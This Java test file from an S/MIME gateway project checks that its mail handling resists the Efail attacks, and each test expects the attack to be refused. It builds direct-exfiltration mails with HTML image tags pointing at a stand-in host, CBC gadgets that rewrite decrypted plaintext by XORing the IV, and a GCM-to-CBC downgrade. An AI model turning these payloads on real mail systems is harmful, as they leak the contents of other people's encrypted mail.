package nl.wotpoort.smime;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import nl.wotpoort.letter.Bytes;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Poddebniak et al., "Efail", USENIX Security 2018: both families, and the way back from GCM. */
class EfailTest {

  /** What an attacker knows of every mail that is signed inside: its first block. */
  private static final String KNOWN = "Content-Type: mu";

  /**
   * Direct exfiltration: the ciphertext of somebody else's mail between parts that would swallow
   * it.
   */
  @ParameterizedTest
  @ValueSource(strings = {"mixed", "alternative", "related", "digest", "signed"})
  void directExfiltrationAroundTheCiphertext(String kind) {
    String mail = Forge.honest();
    int body = mail.indexOf("MIME-Version:");
    String before =
        """
        MIME-Version: 1.0
        Content-Type: multipart/%s; boundary=b

        --b
        Content-Type: text/html

        <img src="http://lek.example/
        --b
        """
            .formatted(kind);
    String mixed =
        mail.substring(0, body)
            + Forge.crlf(before)
            + mail.substring(body + "MIME-Version: 1.0\r\n".length())
            + "--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";

    assertThat(Forge.verdict(mixed)).isEqualTo("partially-encrypted");
  }

  @Test
  void directExfiltrationByAForwardedMessage() {
    String around = "From: b.smit@praktijk-delinde.example\r\nContent-Type: message/rfc822\r\n\r\n";

    assertThat(Forge.verdict(around + Forge.honest())).isEqualTo("partially-encrypted");
  }

  /**
   * The block of the known plaintext, before it a block that turns it into what the attacker likes;
   * the rest of the mail follows as it was. First that the gadget works, then that nothing of it
   * comes out.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        // a header and a body in HTML from the first block on
        "A: b\r\n\r\n<img a=\"|\" src=\"//lek.ex/",
        // the paper's own: the type of the content is rewritten
        "Content-Type: te|xt/html\r\n\r\n<a bc",
        "Content-Type: te",
      })
  void cbcGadgetsWriteWhatTheyLikeAndNothingComesOut(String wanted) throws Fault {
    String forged = gadgets(Forge.honest(), wanted.split("\\|"));

    String inside = decrypted(forged);
    assertThat(inside).startsWith(wanted.split("\\|")[0]).contains(KNOWN).contains("smime.p7s");
    Opened.Refused refused =
        Forge.open(forged)
            .fold(
                t -> {
                  throw new AssertionError("a changed mail was trusted");
                },
                r -> r);
    assertThat(refused.finding().isBeforeTrust()).isTrue();
    assertThat(refused.detail()).doesNotContain("lek").doesNotContain("html");
  }

  /** IV' C1 X1 C1 X2 C1 … IV C1 C2 …, where X makes the next C1 into what is wanted. */
  private static String gadgets(String mail, String[] wanted) throws Fault {
    List<Asn1> data = enveloped(Forge.derOf(mail));
    List<Asn1> info = data.get(2).children();
    byte[] iv = info.get(1).children().get(1).content();
    byte[] ciphertext = info.get(2).octets().toArray();
    byte[] first = Arrays.copyOf(ciphertext, 16);
    List<byte[]> blocks = new ArrayList<>();
    for (String block : wanted) {
      blocks.add(xor(iv, KNOWN, block));
      blocks.add(first);
    }
    byte[] newIv = blocks.remove(0);
    blocks.add(iv);
    blocks.add(ciphertext);
    byte[] content = Der.value(0x80, blocks.toArray(new byte[0][]));
    byte[] algorithm = Der.algorithm(Oids.AES256_CBC, Der.octets(newIv));
    byte[] encrypted = Der.sequence(Der.oid(Oids.DATA), algorithm, content);
    byte[] all = Der.sequence(data.get(0).raw(), data.get(1).raw(), encrypted);
    return Forge.withDer(mail, Der.sequence(Der.oid(Oids.ENVELOPED_DATA), Der.value(0xA0, all)));
  }

  private static byte[] xor(byte[] iv, String known, String wanted) {
    byte[] result = iv.clone();
    for (int i = 0; i < 16; i++) {
      result[i] ^= (byte) (known.charAt(i) ^ wanted.charAt(i));
    }
    return result;
  }

  private static List<Asn1> enveloped(byte[] der) throws Fault {
    return Asn1.read(der, Limits.defaults()).children().get(1).children().get(0).children();
  }

  /** What the mailbox's key makes of it, before anything is judged. */
  private static String decrypted(String mail) throws Fault {
    AlgorithmPolicy policy = AlgorithmPolicy.defaults();
    Entity outer = Entity.read(Bytes.of(mail, StandardCharsets.UTF_8), Limits.defaults());
    Decryptor.Decrypted opened =
        new Decryptor(policy, Limits.defaults(), new SecureRandom())
            .decrypt(
                () ->
                    Encrypted.read(
                        Outside.envelope(outer, Limits.defaults()), policy, Limits.defaults()),
                SamplePki.keys("gateway/oost"));
    return opened.content().decode(StandardCharsets.ISO_8859_1);
  }

  @Test
  void aBlockChangedAnywhereNeverYieldsContent() {
    byte[] der = Forge.derOf(Forge.honest());
    int content = der.length / 2;
    Set<String> verdicts = new HashSet<>();
    for (int i = 0; i < 48; i++) {
      byte[] changed = der.clone();
      changed[content + i] ^= 0x20;
      verdicts.add(Forge.verdict(Forge.withDer(Forge.honest(), changed)));
    }
    assertThat(verdicts).doesNotContain("ACCEPT");
  }

  /** The paper asks for GCM; whoever calls it CBC again would have his gadgets back. */
  @Test
  void gcmCiphertextTurnedIntoCbcIsRefused() {
    String signed = Forge.signed(Forge.wrapped(Forge.innerHeader()), Forge.GP);
    String gcm = Forge.encrypted(signed, Recipient.Cipher.AES_256_GCM);
    byte[] der = Forge.derOf(gcm);
    byte[] from = Der.oid(Oids.AES256_GCM);
    byte[] to = Der.oid(Oids.AES256_CBC);
    System.arraycopy(to, 0, der, Forge.indexOf(der, from), to.length);

    assertThat(Forge.verdict(Forge.withDer(gcm, der))).isEqualTo("weak-algorithm");
  }

  @Test
  void ciphertextOfSomebodyElsesMailInsideAnOwnSignedMailIsNotOpened() {
    String quoted =
        Forge.crlf("Content-Type: multipart/mixed; boundary=q\n\n--q\n")
            + Forge.honest()
            + "\r\n--q--\r\n";
    String mail = Forge.encrypted(Forge.signed(quoted, Forge.GP));
    Opened.Trusted opened = SealAndOpenTest.trusted(Forge.open(mail));

    assertThat(opened.content().entity()).isEqualTo(Bytes.of(quoted, StandardCharsets.UTF_8));
  }
}
